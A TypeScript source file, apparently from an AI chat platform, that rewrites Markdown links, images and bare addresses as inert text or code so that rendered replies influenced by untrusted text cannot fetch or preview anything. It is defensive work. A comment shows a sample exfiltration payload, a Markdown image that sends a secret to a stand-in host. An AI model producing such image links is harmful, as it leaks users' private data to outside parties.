/** Text in which nothing can be followed or fetched: what a turn says that untrusted text went into. */

/** Code as every platform shows it: fences that are closed, and spans within a line. */
const CODE = /(?:^|\n)(```|~~~)[^\n]*\n(?:[\s\S]*?\n)?\1[^\S\n]*(?=\n|$)|(?<!`)`[^`\n]+`(?!`)/g;
/** `![alt](address "title")` and `[label](address)`. */
const LINK = /!?\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?[^)\n]*\)/g;
/** An address with a scheme, or one that platforms make a link of without it. */
const ADDRESS =
  /<([a-z][a-z0-9+.-]{1,20}:[^\s<>`]+)>|((?:[a-z][a-z0-9+.-]{1,20}:\/\/|mailto:|www\.|discord\.gg\/)[^\s<>`]+)/gi;
const HAS_ADDRESS = /:\/\/|mailto:|www\.|discord\.gg|\]\(/i;

/**
 * The Markdown with its pictures and links as text and each address as code, so that no platform follows, fetches or
 * previews one: `![x](https://a.example/?q=secret)` would carry data out as soon as it is shown.
 */
export function inert(markdown: string): string {
  let from = 0;
  let out = '';
  for (const code of markdown.matchAll(CODE)) {
    out += inertProse(markdown.slice(from, code.index)) + code[0];
    from = code.index + code[0].length;
  }
  return out + inertProse(markdown.slice(from));
}

function inertProse(text: string): string {
  if (!HAS_ADDRESS.test(text)) return text;
  return (
    text
      // One that stands alone could close or open the code around an address.
      .replaceAll('`', "'")
      .replace(LINK, (_, label: string, address: string) => (label.trim() === '' ? address : `${label} (${address})`))
      .replace(ADDRESS, (_, between?: string, bare = '') => codeOf(between ?? bare))
  );
}

/** The address as code; what ends the sentence stays outside. */
function codeOf(address: string): string {
  const [, core = address, end = ''] = /^(.*?)([).,;:!?'"*_~\]]*)$/.exec(address) ?? [];
  return `\`${core}\`${end}`;
}
